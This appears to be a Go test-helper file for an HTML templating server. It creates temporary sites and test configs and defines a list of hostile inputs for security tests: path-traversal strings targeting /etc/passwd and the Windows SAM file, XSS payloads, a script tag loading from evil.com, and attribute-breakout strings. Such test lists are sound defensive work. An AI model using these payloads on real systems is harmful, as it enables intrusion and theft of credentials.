package testutils

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/conneroisu/htmltag/internal/config"
)

// CreateTempSite writes files (slash-separated names relative to the site
// root) into a fresh temporary directory and returns it.
func CreateTempSite(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	WriteFiles(t, dir, files)
	return dir
}

// WriteFiles writes files under dir, creating parent directories.
func WriteFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(content), 0o644))
	}
}

// CreateTestConfig creates a configuration serving siteDir on a
// system-assigned port without opening a browser.
func CreateTestConfig(siteDir string) *config.Config {
	return &config.Config{
		Templates: config.TemplatesConfig{
			Dir: siteDir,
		},
		Cache: config.CacheConfig{
			Size: config.DefaultCacheSize,
		},
		Log: config.LogConfig{
			Level:  "error",
			Format: "text",
		},
		Server: config.ServerConfig{
			Host: "localhost",
			Port: 0,
			Open: false,
		},
		Watch: config.WatchConfig{
			Debounce: 10 * time.Millisecond,
			Patterns: append([]string(nil), config.DefaultPatterns...),
			Ignore:   []string{".git"},
		},
	}
}

// StandardSite is a small site exercising data slots, conversions,
// includes and partials.
var StandardSite = map[string]string{
	"data.yml": `title: Handbook
user:
  name: Ada
  admin: true
nav:
  - Home
  - Docs
`,
	"index.html":    `<main class={title!s:page-%s}>{@_header.html}<p>{user.name}</p></main>`,
	"_header.html":  `<h1 data-admin={user.admin}>{title}</h1>`,
	"docs/nav.html": `<nav>{nav}</nav>`,
	"notes.txt":     `not a page`,
}

// SecurityTestCases provides common hostile inputs
var SecurityTestCases = struct {
	PathTraversal     []string
	ScriptInjection   []string
	AttributeBreakout []string
}{
	PathTraversal: []string{
		"../../../etc/passwd",
		"..\\..\\..\\windows\\system32\\config\\sam",
		"....//....//....//etc/passwd",
		"/./../../etc/passwd",
		"../../../../../etc/passwd",
	},
	ScriptInjection: []string{
		"<script>alert('xss')</script>",
		"<img src=x onerror=alert('xss')>",
		"<svg onload=alert('xss')>",
		"<iframe src=javascript:alert('xss')>",
		"<body onload=alert('xss')>",
		"<div onclick=alert('xss')>",
		"<script src=//evil.com/malicious.js></script>",
		"</p><script>alert(1)</script><p>",
	},
	AttributeBreakout: []string{
		`" onmouseover="alert(1)`,
		`"><script>alert(1)</script>`,
		`' autofocus onfocus='alert(1)`,
		"\" \x00onerror=\"x",
	},
}

// WaitForFileChange waits for a file to be modified (useful for testing file watchers)
func WaitForFileChange(
	t *testing.T,
	filePath string,
	originalModTime time.Time,
	timeout time.Duration,
) {
	t.Helper()
	deadline := time.Now().Add(timeout)

	for time.Now().Before(deadline) {
		info, err := os.Stat(filePath)
		if err == nil && info.ModTime().After(originalModTime) {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}

	t.Fatalf("File %s was not modified within %v", filePath, timeout)
}
